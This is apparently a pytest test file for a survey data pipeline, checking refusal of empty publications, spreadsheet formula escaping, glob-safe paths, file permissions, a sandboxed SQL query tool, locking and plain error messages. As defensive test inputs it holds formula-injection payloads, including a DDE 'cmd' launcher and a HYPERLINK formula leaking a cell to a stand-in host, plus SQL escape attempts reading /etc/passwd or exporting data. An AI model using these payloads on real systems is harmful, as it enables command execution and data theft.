"""Faults and hostile use around a run (issue: hostile input and faults): a year that would
publish nothing or half, formulas in the follow-up list, paths that look like patterns, who may
read what, the analysts' query tool, text that looks like markup, two runs of one year, errors a
person reads, and workers that outlive their run."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import polars as pl
import psutil
import pytest
from conftest import YEARS, good_return

from devtools.oracle import check_character
from pipeline import spreadsheet
from pipeline.cli import main
from pipeline.config import Settings
from pipeline.consolidate import deduplicate
from pipeline.errors import PublicationRefused
from pipeline.locks import year_lock
from pipeline.report import report
from pipeline.runner import check_files, checked_paths, run_year
from pipeline.spreadsheet import FORMULA_STARTS
from schemas.form import FORM_COLUMNS

SURVEY = str(Path(sys.executable).parent / "survey")
INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+2",
              "@SUM(1,2)", "=1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1"]


def survey(*args: str, data_dir: Path, umask: int | None = None,
           **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [SURVEY, *args], capture_output=True, text=True,
        env={**os.environ, "SURVEY_DATA_DIR": str(data_dir), "COLUMNS": "200", **env},
        preexec_fn=None if umask is None else (lambda: os.umask(umask)))


def credit_code(n: int) -> str:
    first17 = f"91330108{n:09d}"
    return first17 + check_character(first17)


def returns(count: int, **overrides: str) -> list[dict]:
    """`count` returns of distinct enterprises that pass every rule."""
    return [good_return(credit_code=credit_code(n), **overrides) for n in range(count)]


def land(data_dir: Path, year: int, name: str, rows: list[dict]) -> Path:
    landing = data_dir / "landing" / str(year)
    landing.mkdir(parents=True, exist_ok=True)
    path = landing / name
    pl.DataFrame(rows, schema={c: pl.Utf8 for c in FORM_COLUMNS}).with_columns(
        survey_year=pl.lit(str(year))).write_csv(path)
    return path


def published_manifest(settings: Settings, year: int) -> dict:
    return json.loads((settings.published_dir / "manifest" / f"{year}.json").read_text())


# 1. An empty or half-copied landing folder never replaces a published year.


def test_an_empty_or_half_landing_never_replaces_a_published_year(tmp_path):
    settings, year = Settings(data_dir=tmp_path / "data"), YEARS[-1]
    rows = returns(40)
    for part in range(4):
        land(settings.data_dir, year, f"county_{part}.csv", rows[part * 10:(part + 1) * 10])
    run_year(settings, year)
    before = published_manifest(settings, year)
    landed = sorted(settings.landing_dir(year).iterdir())
    aside = tmp_path / "aside"
    aside.mkdir()
    for path in landed:
        path.rename(aside / path.name)
    with pytest.raises(PublicationRefused, match="no readable row"):
        run_year(settings, year)
    (settings.landing_dir(year) / "blank.csv").write_text("survey_year,credit_code\n")
    with pytest.raises(PublicationRefused, match=r"1 file\(s\) landed, 1 quarantined, 0 row"):
        run_year(settings, year)
    (settings.landing_dir(year) / "blank.csv").unlink()
    (aside / landed[0].name).rename(landed[0])  # a quarter of the year back
    with pytest.raises(PublicationRefused, match="10 accepted return\\(s\\), under half of the "
                       "40 in the published version"):
        run_year(settings, year)
    assert published_manifest(settings, year) == before
    run_year(settings, year, allow_shrink=True)
    assert published_manifest(settings, year)["accounting"]["accepted"] == 10


# 2. Formulas in the follow-up list stay text.


def test_the_follow_up_csv_shows_formulas_as_received_and_computes_none(tmp_path):
    settings, year = Settings(data_dir=tmp_path), YEARS[-1]
    rows = returns(len(INJECTIONS))
    for row, text in zip(rows, INJECTIONS, strict=True):
        # a name and a contact as received, and an unreadable count, whose text is kept
        row.update(enterprise_name=text, contact_name=text, employees=text,
                   contact_phone=text)
    land(tmp_path, year, "county.csv", rows)
    # Up to the follow-up list; publication plays no part in it.
    ingested = list(check_files(settings, year))
    deduplicate(settings, year, checked_paths(ingested))
    report(settings, year, ingested)
    follow_up = settings.output_dir(year) / "follow_up.csv"
    assert follow_up.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads Chinese from UTF-8
    with open(follow_up, encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells and not [c for c in cells if c[:1] and c[0] in FORMULA_STARTS]
    shown = {c[1:] for c in cells if c.startswith("'")}
    assert set(INJECTIONS) <= shown  # each value as received, behind one apostrophe
    kept = pl.read_parquet(settings.output_dir(year) / "follow_up.parquet")
    assert set(INJECTIONS) <= set(kept["value_received"]) | set(kept["enterprise_name"])


def test_the_follow_up_csv_written_in_slices_is_the_csv_written_whole(tmp_path, monkeypatch):
    frame = pl.DataFrame({"text": [*INJECTIONS, None, "", 'a"b', "中文"],
                          "row": [*range(len(INJECTIONS) + 3), None]})
    frame.write_parquet(tmp_path / "f.parquet", row_group_size=3)
    spreadsheet.write_csv_for_excel(frame, tmp_path / "whole.csv")
    monkeypatch.setattr(spreadsheet, "CHUNK_ROWS", 2)  # slices that cut across row groups
    spreadsheet.write_parquet_as_csv_for_excel(tmp_path / "f.parquet", tmp_path / "sliced.csv")
    frame.clear().write_parquet(tmp_path / "empty.parquet")
    spreadsheet.write_parquet_as_csv_for_excel(tmp_path / "empty.parquet", tmp_path / "empty.csv")
    assert (tmp_path / "sliced.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
    assert (tmp_path / "empty.csv").read_bytes() == b'\xef\xbb\xbf"text","row"\n'


# 5. Paths are data, never patterns.


def test_file_names_and_a_data_root_with_glob_characters(tmp_path):
    data_dir = tmp_path / "data[1]"
    year = YEARS[-1]
    rows = returns(40)
    names = {"county[1].csv": rows[:10], "*.csv": rows[10:20], "a?.csv": rows[20:30],
             "county1.csv": rows[30:]}
    for name, part in names.items():
        land(data_dir, year, name, part)
    settings = Settings(data_dir=data_dir)
    accounting = run_year(settings, year)
    per_file = {f["source_file"]: f["rows_read"] for f in accounting["files"]}
    assert per_file == {name: 10 for name in names}
    assert accounting["total"]["accepted"] == 40
    assert published_manifest(settings, year)["accounting"]["accepted"] == 40
    assert main(["--data-dir", str(data_dir), "query",
                 "select count(*) from data_quality"]) == 0


# 8. Identifying data is closed to every other user of the machine.


def _readable_by_nobody(paths: list[Path]) -> set[Path]:
    script = 'for f in "$@"; do head -c1 "$f" > /dev/null 2>&1 && echo "$f"; done; exit 0'
    result = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                             "sh", "-c", script, "sh", *map(str, paths)],
                            capture_output=True, text=True, check=True)
    return {Path(line) for line in result.stdout.splitlines()}


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"),
                    reason="reading as another user needs root and setpriv")
def test_another_user_reads_only_the_public_tier_whatever_the_umask():
    data_dir = Path(tempfile.mkdtemp(prefix="survey-tiers-", dir="/tmp"))
    try:
        data_dir.chmod(0o755)  # an office's data root others may pass through
        for year in YEARS[-1:]:
            land(data_dir, year, "county.csv", returns(30))
            (data_dir / "frame").mkdir(exist_ok=True)
            pl.DataFrame(returns(35)).select("credit_code", "enterprise_name", "region_code",
                                             "industry_code", "size_class").write_csv(
                data_dir / "frame" / f"{year}.csv")
            result = survey("run", "--year", str(year), data_dir=data_dir, umask=0)
            assert result.returncode == 0, result.stderr[-2000:]
        snapshots = data_dir / "snapshots"
        files = [p for p in data_dir.rglob("*") if p.is_file()
                 and not p.is_relative_to(data_dir / "landing")
                 and not p.is_relative_to(data_dir / "frame")]
        public = {p for p in files if p.is_relative_to(snapshots) and
                  p.relative_to(snapshots).parts[1:2] in (("public",), ("manifest",),
                                                           ("dictionary.csv",),
                                                           ("monitoring.duckdb",),
                                                           ("report",))}
        layers = {p.relative_to(data_dir).parts[0] for p in files}
        assert {"checked", "valid", "output", "statistical", "locks"} <= layers
        assert public and len(files) > len(public) + 10
        for path in set(files) - public:
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
        assert _readable_by_nobody(files) == public
    finally:
        shutil.rmtree(data_dir)


# 9. The analysts' query tool reads the public tables and nothing else.


@pytest.mark.parametrize("sql", [
    "copy (select 1 as a) to '{out}/copied.csv'",
    "copy by_region to '{out}/copied.csv'",
    "select * from read_csv('/etc/passwd')",
    "attach '{out}/attached.duckdb' as x",
    "export database '{out}/exported'",
    "select * from read_parquet('{restricted}/enterprises/*/*.parquet')",
    "select count(*) from enterprises",
    "set enable_external_access = true; copy (select 1) to '{out}/copied.csv'",
    "install httpfs",
])
def test_query_cannot_write_or_read_outside_the_public_tables(two_years, tmp_path, sql, capsys):
    settings, _ = two_years
    restricted = settings.published_dir.resolve() / "restricted"
    sql = sql.format(out=tmp_path, restricted=restricted)
    assert main(["--data-dir", str(settings.data_dir), "query", sql]) == 1
    assert not list(tmp_path.iterdir())
    capsys.readouterr()


def test_query_reads_restricted_tables_only_when_asked(two_years, capsys):
    settings, _ = two_years
    sql = "select count(*) as n from enterprises"
    assert main(["--data-dir", str(settings.data_dir), "query", sql]) == 1
    assert "--restricted" in capsys.readouterr().err
    assert main(["--data-dir", str(settings.data_dir), "query", "--restricted", sql]) == 0
    enterprises = pl.read_parquet(
        settings.published_dir / "restricted" / "enterprises" / "*" / "data.parquet")
    assert f"│ {enterprises.height} " in capsys.readouterr().out


# 10. Data is printed as text.


def test_markup_and_emoji_codes_in_data_print_as_text(two_years, tmp_path, capsys):
    settings, _ = two_years
    sql = "select '[/x]' as a, ':x: [bold]b' as b"
    assert main(["--data-dir", str(settings.data_dir), "query", sql]) == 0
    shown = capsys.readouterr().out
    assert "[/x]" in shown and ":x: [bold]b" in shown
    path = tmp_path / "returns.csv"
    pl.DataFrame([good_return(enterprise_name="[/x]公司:x:", contact_name="[red]张")]).write_csv(
        path)
    assert main(["--data-dir", str(tmp_path), "check", str(path), "--year", "2025"]) == 0
    assert "0 errors" in capsys.readouterr().out


# 13. One run of a year at a time.


def test_a_second_run_of_a_year_says_it_is_being_processed(tmp_path):
    year = YEARS[-1]
    land(tmp_path, year, "county.csv", returns(3))
    settings = Settings(data_dir=tmp_path)
    with year_lock(settings, year):
        result = survey("run", "--year", str(year), data_dir=tmp_path)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert f"survey year {year} is being processed by another run (pid {os.getpid()})" in (
        result.stderr.replace("\n", " "))
    assert not settings.valid_dir(year).exists()  # it touched nothing


def test_a_waiting_step_goes_on_when_the_run_ends(tmp_path):
    settings, year = Settings(data_dir=tmp_path), YEARS[-1]
    holder = subprocess.Popen([sys.executable, "-c", (
        "import sys, time\nfrom pathlib import Path\nfrom pipeline.config import Settings\n"
        "from pipeline.locks import year_lock\n"
        f"with year_lock(Settings(data_dir=Path({str(tmp_path)!r})), {year}):\n"
        "    print('held', flush=True); time.sleep(1.5)\n")],
        stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": os.getcwd()})
    assert holder.stdout.readline().strip() == "held"
    started = time.monotonic()
    with year_lock(settings, year, shared=True):
        waited = time.monotonic() - started
    assert holder.wait() == 0 and waited > 0.5


# 14. A sentence, not a traceback.


@pytest.mark.parametrize("args, env, says", [
    (("run", "--year", "1999"), {}, "no landing folder for 1999"),
    (("check", "{tmp}/missing.csv"), {}, "missing.csv: no such file"),
    (("check", "{tmp}"), {}, "a folder, not a file"),
    (("run", "--year", "2025"), {"SURVEY_MAX_FILE_MB": "abc"},
     "SURVEY_MAX_FILE_MB must be a number above 0, not 'abc'"),
    (("query", "select 1"), {}, "nothing published yet"),
    (("audit", "--year", "2025"), {}, "is missing: is the year published?"),
])
def test_errors_a_person_can_act_on_are_one_line(tmp_path, monkeypatch, capsys, args, env,
                                                 says):
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    try:  # in this process: an exception that escapes main is the traceback a person would see
        code = main(["--data-dir", str(tmp_path), *(a.format(tmp=tmp_path) for a in args)])
    except SystemExit as usage:  # argparse's one-line usage error
        code = usage.code
    assert code not in (0, None)
    assert says in " ".join(capsys.readouterr().err.split())


@pytest.fixture
def small_mount(tmp_path):
    """A 2 MB file system of its own (root only), to fill or make read-only."""
    if os.geteuid() != 0:
        pytest.skip("mounting a small file system needs root")
    mount = tmp_path / "mnt"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mount)],
                      capture_output=True).returncode:
        pytest.skip("this machine cannot mount a tmpfs")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=True)


def test_a_full_disk_is_one_line(small_mount):
    year = YEARS[-1]
    land(small_mount, year, "county.csv", returns(2000))
    ballast = small_mount / "ballast"
    free = shutil.disk_usage(small_mount).free
    ballast.write_bytes(b"\0" * max(0, free - 16 * 1024))
    result = survey("run", "--year", str(year), data_dir=small_mount)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "No space left on device" in result.stderr, result.stderr[-3000:]


def test_a_read_only_data_root_is_one_line(small_mount):
    year = YEARS[-1]
    land(small_mount, year, "county.csv", returns(5))
    subprocess.run(["mount", "-o", "remount,ro", str(small_mount)], check=True)
    result = survey("run", "--year", str(year), data_dir=small_mount)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "Read-only file system" in result.stderr, result.stderr[-3000:]


# 15. A killed run leaves no worker behind.


def test_workers_stop_with_a_killed_run(small_year_dir):
    data_dir, year = small_year_dir
    run = subprocess.Popen([SURVEY, "run", "--year", str(year)], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL,
                           env={**os.environ, "SURVEY_DATA_DIR": str(data_dir)})
    parent = psutil.Process(run.pid)
    deadline, workers = time.monotonic() + 120, []
    while not workers and run.poll() is None and time.monotonic() < deadline:
        workers = [p for p in parent.children() if "multiprocessing" in " ".join(p.cmdline())
                   and "resource_tracker" not in " ".join(p.cmdline())]
        time.sleep(0.05)
    assert workers, "the run started no worker"
    run.send_signal(signal.SIGKILL)
    run.wait()
    deadline = time.monotonic() + 5
    while (alive := [p for p in workers if _running(p)]) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not alive, [p.pid for p in alive]


def _running(process: psutil.Process) -> bool:
    """Running, not only a zombie waiting for whoever adopted it to reap it."""
    try:
        return process.status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False
